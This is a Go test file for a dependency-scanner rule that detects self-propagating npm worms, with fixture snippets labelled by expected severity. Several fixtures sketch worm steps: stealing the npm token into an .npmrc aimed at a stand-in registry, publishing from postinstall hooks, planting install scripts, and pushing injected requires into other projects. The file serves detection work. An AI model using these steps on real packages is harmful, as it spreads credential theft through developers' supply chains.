package worm

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestSelfPropagate(t *testing.T) {
	rt.Check(t, SelfPropagate{}, []rt.Case{
		{"worm", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fs.writeFileSync(".npmrc", "//registry.npm.local/:_authToken=" + t);
exec("npm publish"); fetch("https://api.github.com/user/repos", {method: "POST"}); write(".github/workflows/x.yml")`}, finding.SeverityCritical},
		// npm run through a helper: npm("publish --access public") at
		// install with the token it reads; a release CLI doing it when run
		{"helper_publish_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
			"s.js": "const { execSync } = require('child_process'); const npm = a => execSync(`npm ${a}`); const tok = process.env.NPM_TOKEN; require('fs').writeFileSync('.npmrc', '//r.example.invalid/:_authToken=' + tok); npm('publish --access public')"}, finding.SeverityCritical},
		{"helper_publish_release_cli", map[string]string{"package.json": `{"name":"x","version":"1.0.0","bin":{"rel":"rel.js"}}`,
			"rel.js": "const { execSync } = require('child_process'); const npm = a => execSync(`npm ${a}`, {stdio: 'inherit'}); npm('version patch'); npm('publish --access public')"}, finding.SeverityNone},
		// Shai-Hulud's core: steal the npm token, plant a postinstall in
		// package.json, publish
		{"plants_install_script", map[string]string{"index.js": `const fs = require("fs"), { execSync } = require("child_process");
const token = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8");
const pkg = JSON.parse(fs.readFileSync("package.json")); pkg.scripts = { postinstall: "node bundle.js" };
fs.writeFileSync("package.json", JSON.stringify(pkg)); execSync("npm publish")`}, finding.SeverityHigh},
		// a release tool bumps the version and publishes with the token
		{"version_bump_publish", map[string]string{"index.js": `const fs = require("fs"); if (!process.env.NPM_TOKEN) throw new Error("no token");
const pkg = JSON.parse(fs.readFileSync("package.json")); pkg.version = next;
fs.writeFileSync("package.json", JSON.stringify(pkg, null, 2)); exec("npm publish")`}, finding.SeverityNone},
		{"release_tool", map[string]string{"index.js": `if (!process.env.NPM_TOKEN) throw new Error("set NPM_TOKEN"); exec("npm publish")`}, finding.SeverityNone},
		// install-time code publishing with the token it read, npm's
		// arguments passed through a helper
		{"publish_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
			"s.js": `const { execFileSync } = require("child_process"); const run = (a, o) => execFileSync("npm", a, o); const t = process.env.NPM_TOKEN; require("fs").writeFileSync(dir + "/data.txt", loot); run(["publish", "--access", "public"], { cwd: dir })`}, finding.SeverityCritical},
		{"publish_at_install_no_token", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
			"s.js": `require("child_process").execSync("npm publish")`}, finding.SeverityHigh},
		// a release CLI passing "publish" to npm when the user runs it
		// at install, one module plants a require of the package into
		// other projects' main files and adds it to their dependencies,
		// another commits and pushes the change
		{"plants_itself_split_at_install", map[string]string{"package.json": `{"name":"wlf","version":"0.2.9","scripts":{"postinstall":"node index.js"}}`,
			"index.js": `const { apply } = require("./patch"), { push } = require("./git"); for (const d of dirs()) if (apply(d)) push(d)`,
			"patch.js": `const fs = require("fs"), path = require("path"); const SELF = require("./package.json"); const LINE = "require('" + SELF.name + "/register');\n";
exports.apply = (dir) => { const f = path.join(dir, "package.json"); const pkg = JSON.parse(fs.readFileSync(f, "utf8")); pkg.dependencies[SELF.name] = "^" + SELF.version; fs.writeFileSync(f, JSON.stringify(pkg)); fs.appendFileSync(path.join(dir, "index.js"), LINE); return true }`,
			"git.js": `const { execFile } = require("child_process"); const git = (cwd, a) => execFile("git", a, { cwd }); exports.push = (d) => { git(d, ["commit", "-am", "fix"]); git(d, ["push", "origin", "HEAD"]) }`}, finding.SeverityCritical},
		// a release script packing the package, writing a smoke test that
		// requires it into a fixture, installing it there and publishing
		{"release_smoke_fixture", map[string]string{"package.json": `{"name":"tpl","version":"7.0.2"}`,
			"jakefile.js": `const fs = require("fs"), proc = require("child_process"); task("packaging", () => { fs.writeFileSync(dir + "/package.json", JSON.stringify({ scripts: { test: "node t.cjs" } })); proc.execFileSync("npm", ["install", pkg]); fs.writeFileSync(dir + "/t.cjs", 'const tpl = require("tpl");\n') }); publishTask("tpl", () => proc.execFileSync("npm", ["publish"]))`}, finding.SeverityNone},
		// a monorepo tool syncing the workspace's own ranges, run by the
		// user, committing when asked
		{"workspace_version_sync_cli", map[string]string{"package.json": `{"name":"wvs","version":"1.4.0","bin":{"wvs":"cli.js"}}`,
			"cli.js": `const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process"); const own = require("./package.json");
for (const d of workspaces()) { const f = path.join(d, "package.json"); const pkg = JSON.parse(fs.readFileSync(f, "utf8")); pkg.devDependencies[own.name] = "^" + own.version; fs.writeFileSync(f, JSON.stringify(pkg)) }
if (argv.commit) { execFileSync("git", ["commit", "-am", "sync"]); execFileSync("git", ["push"]) }`}, finding.SeverityNone},
		{"release_cli_argv", map[string]string{"cli.js": `const { execFileSync } = require("child_process"); if (!process.env.NPM_TOKEN) throw new Error("set NPM_TOKEN"); execFileSync("npm", ["publish", "--tag", tag])`}, finding.SeverityNone},
	})
}
